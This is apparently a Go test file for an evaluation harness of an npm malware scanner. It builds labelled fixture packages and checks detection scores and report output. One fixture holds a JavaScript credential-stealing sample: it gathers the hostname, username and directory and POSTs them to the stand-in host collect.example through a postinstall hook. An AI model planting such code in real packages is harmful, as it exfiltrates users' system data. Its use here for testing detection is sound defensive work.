package eval

import (
	"bytes"
	"context"
	"encoding/json"
	"math"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/donapi/donapi/internal/report"
	"github.com/donapi/donapi/internal/scan"
	"github.com/donapi/donapi/knowledge"
)

// write makes a corpus of inert packages: path below the folder -> content.
func write(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for p, text := range files {
		p = filepath.Join(dir, p)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

const thief = `const { hostname, userInfo } = require("os"), https = require("https");
function collect() { return { a: hostname(), b: userInfo().username, c: __dirname }; }
https.request({ host: "collect.example", method: "POST" }).end(JSON.stringify(collect()));`

func corpus(t *testing.T) string {
	return write(t, map[string]string{
		"malicious/thief-1.0.0/package.json":  `{"name":"thief","version":"1.0.0","repository":"r","scripts":{"postinstall":"node index.js"}}`,
		"malicious/thief-1.0.0/index.js":      thief,
		"malicious/thief-1.0.1/package.json":  `{"name":"thief","version":"1.0.1","repository":"r","scripts":{"postinstall":"node index.js"}}`,
		"malicious/thief-1.0.1/index.js":      "// again\n" + thief,
		"malicious/quiet-1.0.0/package.json":  `{"name":"quiet","version":"1.0.0"}`,
		"malicious/quiet-1.0.0/index.js":      `module.exports = 1;`,
		"benign/honest-1.0.0/package.json":    `{"name":"honest","version":"1.0.0"}`,
		"benign/honest-1.0.0/index.js":        `module.exports = (a, b) => a + b;`,
		"benign/accused-1.0.0/package.json":   `{"name":"accused","version":"1.0.0"}`,
		"benign/accused-1.0.0/index.js":       thief,
		"clusters.tsv":                        "package\tcluster\nthief-1.0.0\tthieves\nthief-1.0.1\tthieves\n",
		"unrelated/not-a-label/package.json":  `{}`,
		"malicious/notes.txt":                 "not a package",
		"benign/honest-1.0.0/node_modules/.x": "",
	})
}

func TestRun(t *testing.T) {
	k, err := scan.LoadKnowledge(knowledge.FS())
	if err != nil {
		t.Fatal(err)
	}
	dir := corpus(t)
	samples, err := Read(dir, filepath.Join(dir, "clusters.tsv"))
	if err != nil {
		t.Fatal(err)
	}
	if len(samples) != 5 {
		t.Fatalf("%d samples: %+v", len(samples), samples)
	}
	s := scan.New(k, scan.InProcess{K: k})
	opt := Options{Load: func(s Sample) (scan.Subject, error) {
		return scan.Subject{Target: s.Name, Folder: s.Path}, nil
	}, Jobs: 2, Stages: true}
	r, judged, err := Run(context.Background(), s, samples, opt)
	if err != nil {
		t.Fatal(err)
	}
	want := Score{Malicious: 3, Flagged: 2, Named: 2, Clusters: 2, ClustersFlagged: 1, ClustersWhole: 1, Benign: 2, BenignMalicious: 1}
	if r.All.Score != want {
		t.Errorf("got %+v\nwant %+v", r.All.Score, want)
	}
	var kinds []string
	for _, e := range r.Errors {
		kinds = append(kinds, e.Kind+" "+e.Name)
		if e.Kind == "false malicious" && len(e.Findings) == 0 {
			t.Errorf("%s: an error without its evidence", e.Name)
		}
	}
	if !slices.Equal(kinds, []string{"false malicious accused-1.0.0", "missed quiet-1.0.0"}) {
		t.Errorf("errors: %v", kinds)
	}
	if tune, check := r.Parts[0].Score, r.Parts[1].Score; tune.Malicious+check.Malicious != 3 || tune.Benign+check.Benign != 2 {
		t.Errorf("the parts do not add up: %+v, %+v", tune, check)
	}
	for _, row := range r.Stages {
		if row.Name == "only static" && row.Flagged != 2 || row.Name == "without static" && row.Named != 0 {
			t.Errorf("%s: %+v", row.Name, row.Score)
		}
	}
	// Written differently the thieves are still thieves.
	helds, err := Variants(context.Background(), s, judged, opt)
	if err != nil {
		t.Fatal(err)
	}
	for _, h := range helds {
		if h.Packages != 2 || h.Level.Share != 1 {
			t.Errorf("%s: %+v", h.Transform, h)
		}
	}
	r.Variants = helds
	var text, page, data bytes.Buffer
	if err := r.WriteText(&text); err != nil || !strings.Contains(text.String(), "missed  quiet-1.0.0") {
		t.Errorf("text: %v\n%s", err, text.String())
	}
	if err := r.WriteHTML(&page); err != nil || !strings.Contains(page.String(), "accused-1.0.0") || strings.Contains(page.String(), "<script") {
		t.Errorf("page: %v", err)
	}
	var back Report
	if err := r.WriteJSON(&data); err != nil || json.Unmarshal(data.Bytes(), &back) != nil || back.All.Score != want {
		t.Errorf("json: %v", err)
	}
	// Without what tells, nothing is found.
	opt.Without = []string{"static", "metadata", "obfuscation", "shell"}
	if r, _, err := Run(context.Background(), s, samples, opt); err != nil || r.All.Flagged != 0 || r.All.BenignMalicious != 0 {
		t.Errorf("without any stage: %+v, %v", r, err)
	}
}

// TestFailed counts a malicious package that cannot be read as missed, and goes on.
func TestFailed(t *testing.T) {
	k, err := scan.LoadKnowledge(knowledge.FS())
	if err != nil {
		t.Fatal(err)
	}
	s := scan.New(k, scan.InProcess{K: k})
	r, _, err := Run(context.Background(), s, []Sample{{Name: "gone", Path: "/nowhere", Malicious: true, Cluster: "gone"}}, Options{
		Load: func(s Sample) (scan.Subject, error) { return scan.Subject{}, os.ErrNotExist },
	})
	if err != nil {
		t.Fatal(err)
	}
	if r.All.Flagged != 0 || r.All.Unseen != 1 || len(r.Errors) != 1 || r.Errors[0].Kind != "failed" {
		t.Errorf("%+v", r)
	}
}

func TestReadTable(t *testing.T) {
	dir := write(t, map[string]string{
		"a/package.json": "{}",
		"good.tsv":       "path\tlabel\tcluster\na\tmalicious\tc1\n",
		"label.tsv":      "path\tlabel\na\tbad\n",
		"path.tsv":       "path\tlabel\nnowhere\tbenign\n",
		"head.tsv":       "file\tlabel\n",
		"empty/x":        "",
	})
	list, err := Read(filepath.Join(dir, "good.tsv"), "")
	if err != nil || len(list) != 1 || !list[0].Malicious || list[0].Cluster != "c1" {
		t.Errorf("%+v, %v", list, err)
	}
	for file, want := range map[string]string{"label.tsv": `label.tsv:2: label "bad"`, "path.tsv": "path.tsv:2:", "head.tsv": `no column "path"`, "empty": "no package found"} {
		if _, err := Read(filepath.Join(dir, file), ""); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: error %v, want one with %q", file, err, want)
		}
	}
}

// TestPart never divides a cluster, and gives both parts something.
func TestPart(t *testing.T) {
	n := map[Part]int{}
	for _, c := range strings.Fields("a b c d e f g h i j k l m n o p") {
		one, two := Sample{Name: c + "-1", Cluster: c}, Sample{Name: c + "-2", Cluster: c}
		if one.Part() != two.Part() {
			t.Errorf("cluster %s is divided", c)
		}
		n[one.Part()]++
	}
	if n[Tune] == 0 || n[Check] == 0 {
		t.Errorf("parts %v", n)
	}
}

// TestWilson compares with values of the literature: 0 of 10 and 8 of 10 (Newcombe, Statistics in Medicine 17, 1998).
func TestWilson(t *testing.T) {
	for _, c := range []struct {
		k, n      int
		low, high float64
	}{{0, 10, 0, 0.2775}, {8, 10, 0.4902, 0.9433}, {10, 10, 0.7225, 1}, {0, 0, 0, 1}} {
		i := Wilson(c.k, c.n)
		if math.Abs(i.Low-c.low) > 5e-4 || math.Abs(i.High-c.high) > 5e-4 {
			t.Errorf("%d of %d: %v", c.k, c.n, i)
		}
	}
}

func TestScore(t *testing.T) {
	s := Score{Malicious: 10, Flagged: 8, Benign: 1000, BenignMalicious: 1, BenignSuspicious: 1}
	if p := s.Precision().Share; p != 0.8 {
		t.Errorf("precision %v", p)
	}
	if f := s.F1(); math.Abs(f-0.8) > 1e-9 {
		t.Errorf("F1 %v", f)
	}
	if a := s.AlarmsPerThousand(); a != 2 {
		t.Errorf("alarms %v", a)
	}
	if l := report.Inconclusive; tally([]Judged{{Sample: Sample{Malicious: true, Cluster: "x"}, Level: l}}).Flagged != 0 {
		t.Error("inconclusive counts as flagged")
	}
}
